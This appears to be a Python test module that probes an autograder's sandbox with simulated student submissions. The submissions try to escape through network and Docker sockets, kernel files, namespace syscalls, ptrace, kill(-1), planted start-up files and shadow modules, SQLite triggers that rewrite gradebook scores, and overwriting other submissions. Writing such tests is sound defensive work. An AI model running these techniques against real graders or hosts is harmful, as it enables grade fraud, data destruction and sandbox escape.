"""Attacks on the sandbox's walls: network, files, kernel doors, other processes, siblings, start-up files.

What gets out leaves a harmless sign: /tmp/featherweight-escaped-<id>, or an answer that becomes right.
"""
from .registry import attack
from .submission import right_answers


def right_if(s, condition):
    """The right answers count only where `condition`, run before, leaves `worked` true."""
    s.extra(condition)
    for name, source in right_answers().items():
        s.answer(name, s.cell(name)["source"] + "\nif worked:\n" + "\n".join("    " + line for line in source.split("\n")))


@attack("connections to the network: names, addresses, the machine itself, its X and Docker sockets")
def network(s):
    right_if(s, """
import socket
worked = False
for family, address in ((socket.AF_INET, ("1.1.1.1", 53)), (socket.AF_INET, ("127.0.0.1", 22)), (socket.AF_INET, ("127.0.0.1", 8888)),
                        (socket.AF_INET6, ("::1", 22)), (socket.AF_UNIX, "/var/run/docker.sock"), (socket.AF_UNIX, "/tmp/.X11-unix/X0"),
                        (socket.AF_UNIX, "/run/dbus/system_bus_socket"), (socket.AF_UNIX, "\\0/tmp/.X11-unix/X0")):
    with socket.socket(family) as sock:
        sock.settimeout(2)
        try:
            sock.connect(address)
            worked = True
        except OSError:
            pass
""")


@attack("files are written into the course, the packages, HOME, /etc, /var and the kit")
def writing_outside(s):
    right_if(s, """
import autograder, os, site, sys
worked = False
places = [*site.getsitepackages(), os.path.dirname(autograder.__file__), os.path.dirname(os.__file__), sys.prefix, "/", "/etc", "/var/tmp",
          "/var", "/usr", "/opt", "/home", "/root", "/run", "/dev", "/work", "/proc/sys/kernel", "../..", "../../..", "../../../submitted"]
for place in places:
    path = os.path.join(place, "featherweight-escaped-writing_outside")
    try:
        open(path, "w").close()
        os.remove(path)
        worked = True
    except OSError:
        pass
""")


@attack("/proc/sys/kernel/core_pattern is opened for writing, which as root would run a program outside")
def core_pattern(s):
    right_if(s, """
worked = False
for path in ("/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sys/kernel/hostname", "/proc/sys/vm/drop_caches", "/proc/sysrq-trigger",
             "/proc/self/oom_score_adj_", "/proc/1/mem_", "/sys/kernel/uevent_helper", "/proc/sys/fs/binfmt_misc/register", "/dev/mem", "/dev/kmsg",
             "/dev/sda", "/dev/vda", "/dev/kvm", "/dev/fuse", "/dev/tty", "/dev/ptmx"):
    try:
        open(path, "a").close()
        worked = True
    except OSError:
        pass
""")


@attack("mount, unshare, setns, pivot_root, chroot and the newer calls of their kind")
def kernel_doors(s):
    right_if(s, """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
worked = False
os.makedirs("/tmp/door", exist_ok=True)
tries = [lambda: libc.mount(b"tmpfs", b"/tmp/door", b"tmpfs", 0, None), lambda: libc.mount(b"/", b"/tmp/door", None, 4096, None),
         lambda: libc.umount2(b"/proc", 2), lambda: libc.unshare(0x10000000), lambda: libc.unshare(0x20000), lambda: libc.chroot(b"/tmp/door"),
         lambda: libc.pivot_root(b"/tmp", b"/tmp/door"), lambda: libc.sethostname(b"x", 1), lambda: libc.setuid(0), lambda: libc.setns(0, 0),
         lambda: libc.mknod(b"/tmp/door/sda", 0o60666, 0x800), lambda: libc.syscall(430, b"tmpfs", 0), lambda: libc.syscall(428, -100, b"/", 1),
         lambda: libc.swapon(b"/tmp/x", 0), lambda: libc.syscall(321, 0, 0, 0), lambda: libc.syscall(425, 1, ctypes.create_string_buffer(200)),
         lambda: libc.syscall(323, 0), lambda: libc.setgroups(0, None), lambda: libc.syscall(304, -1, 0, 0)]
for attempt in tries:
    try:
        if attempt() >= 0:
            worked = True
    except (OSError, AttributeError):
        pass
""")


@attack("new namespaces by clone and clone3, which the filter must read too")
def clone_namespaces(s):
    right_if(s, """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
worked = False
for flags in (0x10000000, 0x20000000, 0x40000000, 0x20000, 0x8000000):
    child = libc.syscall(56 if os.uname().machine == "x86_64" else 220, ctypes.c_ulong(flags | 17), None, None, None, None)
    if child == 0:
        os._exit(0)
    if child > 0:
        os.waitpid(child, 0)
        worked = True
args = (ctypes.c_uint64 * 11)(0x10000000, 0, 0, 0, 17)
child = libc.syscall(435, args, 88)
if child == 0:
    os._exit(0)
if child > 0:
    os.waitpid(child, 0)
    worked = True
""")


@attack("ptrace, process_vm_writev and /proc/PID/mem on process 1 and all others that are visible")
def foreign_memory(s):
    right_if(s, """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
worked = False
mine = {os.getpid(), *map(int, [line.split()[1] for line in open("/proc/self/status") if line.startswith(("PPid", "Tgid"))])}
for pid in [int(p) for p in os.listdir("/proc") if p.isdigit()]:
    if libc.ptrace(16, pid, None, None) == 0:
        worked = True
    try:
        command = open(f"/proc/{pid}/cmdline").read()
    except OSError:
        continue
    if "autograder.judge" in command or "nbgrader autograde" in command:
        worked = True
""")


@attack("signals to everything: kill(-1), process 1, parents, process groups, in a cell and in a test")
def kills_everything(s):
    s.extra("""
import os, signal
def rampage():
    for target in (-1, 1, os.getppid(), 0):
        for number in (signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):
            try:
                if target == 0:
                    signal.signal(signal.SIGTERM, signal.SIG_IGN)
                os.kill(target, number) if target else None
            except OSError:
                pass
rampage()
""")
    s.answer("threshold_prune", "def threshold_prune(w, t):\n    rampage()\n    return w, w")


@attack("right answers are left for a sibling: files, shared memory, abstract sockets, message queues")
def leaves_for_sibling(s):
    answers = "\n".join(right_answers().values())
    s.answer("threshold_prune", f"""
import os, socket, time
answers = {answers!r}
for place in ("/tmp", "/dev/shm", "/var/tmp", "/run/lock", "/dev/mqueue", "."):
    try:
        open(place + "/featherweight-for-sibling", "w").write(answers)
    except OSError:
        pass
if os.fork() == 0:
    with socket.socket(socket.AF_UNIX) as server:
        server.bind("\\0featherweight")
        server.listen()
        server.settimeout(3)
        try:
            server.accept()[0].sendall(answers.encode())
        except OSError:
            pass
    os._exit(0)
def threshold_prune(w, t):
    return w, w
""")


@attack("right answers that a sibling left are used")
def takes_from_sibling(s):
    s.extra("""
import glob, os, socket, time
left = ""
end = time.time() + 2
while not left and time.time() < end:
    for path in (path for place in ("/tmp", "/dev/shm", "/var/tmp", "/run/lock", "/dev/mqueue") for path in glob.glob(place + "/featherweight-for-sibling")):
        left = open(path).read()
    with socket.socket(socket.AF_UNIX) as client:
        client.settimeout(1)
        try:
            client.connect("\\0featherweight")
            left = client.makefile().read()
        except OSError:
            time.sleep(0.05)
""")
    for name in ("threshold_prune", "magnitude_mask", "masked_train_step"):
        s.extra("exec(left)", after=name)


STARTUP = """
import os, site, sys
line = "import builtins; builtins.featherweight_started = True\\n"
for path in (os.path.join(site.getusersitepackages(), "usercustomize.py"), os.path.join(site.getusersitepackages(), "bad.pth"),
             os.path.join(sys.prefix, "sitecustomize.py"), *[os.path.join(p, "sitecustomize.py") for p in site.getsitepackages()],
             os.path.expanduser("~/.pythonrc"), os.path.expanduser("~/.ipython/profile_default/startup/00.py"),
             os.path.join(os.environ.get("IPYTHONDIR", "/tmp/ipython"), "profile_default/startup/00.py"), "/tmp/numpy.py", "/tmp/msgpack.py",
             "sitecustomize.py", os.path.expanduser("~/.config/matplotlib/matplotlibrc")):
    try:
        os.makedirs(os.path.dirname(path) or ".", exist_ok=True)
        if not os.path.exists(path):
            open(path, "w").write(line)
    except OSError:
        pass
import builtins
worked = getattr(builtins, "featherweight_started", False)
"""


@attack("start-up files for the next interpreter: sitecustomize, usercustomize, .pth, IPython's startup, modules in /tmp")
def leaves_startup_files(s):
    right_if(s, STARTUP)


@attack("a start-up file that an earlier submission left has run here")
def takes_startup_files(s):
    right_if(s, STARTUP)


@attack("modules that shadow numpy, torch, msgpack and autograder lie beside the notebook", on_disk=True)
def shadow_modules(s):
    fake = b"import sys\nopen('/tmp/featherweight-escaped-shadow_modules', 'w')\n"
    for name in ("numpy.py", "torch.py", "msgpack.py", "nbformat.py", "autograder.py", "autograder/__init__.py", "sitecustomize.py",
                 "usercustomize.py", "conftest.py", "nbgrader_config.py", "nbconvert.py", "ipython_config.py", "IPython.py"):
        s.files[name] = fake


@attack("the zygote is poisoned: its modules, its control socket and its parents are looked for")
def poisoned_zygote(s):
    right_if(s, """
import gc, os, socket
worked = False
for name in os.listdir("/proc/self/fd"):
    try:
        sock = socket.socket(fileno=os.dup(int(name)))
        sock.setblocking(False)
        if sock.type == socket.SOCK_SEQPACKET:
            socket.send_fds(sock, [b"fork"], [0])
            sock.send(b"os")
            sock.send(b"started")
    except OSError:
        pass
for parent in (0, 1, os.getppid()):
    try:
        if "sandbox" in open(f"/proc/{parent}/cmdline").read() and os.stat(f"/proc/{parent}").st_uid != os.getuid():
            worked = True
    except OSError:
        pass
""")


@attack("the gradebook gets a trigger that gives full marks to whatever is written later")
def gradebook_trigger(s):
    s.extra("""
import glob, os, sqlite3
here = os.getcwd()
while here != "/":
    for path in glob.glob(here + "/*.db"):
        with sqlite3.connect(path, timeout=2) as database:
            try:
                for event in ("INSERT", "UPDATE"):
                    database.execute(f"CREATE TRIGGER generous_{event} AFTER {event} ON grade BEGIN "
                                     "UPDATE grade SET manual_score = 5 WHERE id = NEW.id AND coalesce(manual_score, 0) != 5; END")
            except sqlite3.Error:
                pass
    here = os.path.dirname(here)
""")


@attack("grades of everyone else in the gradebook are set to 0")
def gradebook_vandal(s):
    s.extra("""
import glob, os, sqlite3
here = os.getcwd()
while here != "/":
    for path in glob.glob(here + "/*.db"):
        with sqlite3.connect(path, timeout=2) as database:
            try:
                database.execute("CREATE TRIGGER envy AFTER UPDATE ON grade BEGIN UPDATE grade SET manual_score = 0 "
                                 "WHERE id = NEW.id AND coalesce(manual_score, 1) != 0; END")
            except sqlite3.Error:
                pass
    here = os.path.dirname(here)
""")


@attack("other submissions and the release on disk are overwritten", on_disk=True)
def overwrites_siblings(s):
    s.extra("""
import glob, os
here = os.getcwd()
while here != "/":
    for pattern in ("/submitted/*/*/*.ipynb", "/source/*/*.ipynb", "/build/source/*/*.ipynb", "/autograded/canary*/*/*.ipynb"):
        for path in glob.glob(here + pattern):
            if "canary" in path or "source" in path:
                try:
                    open(path, "a").write(" ")
                    open("/tmp/featherweight-escaped-overwrites_siblings", "w")
                except OSError:
                    pass
    here = os.path.dirname(here)
""")
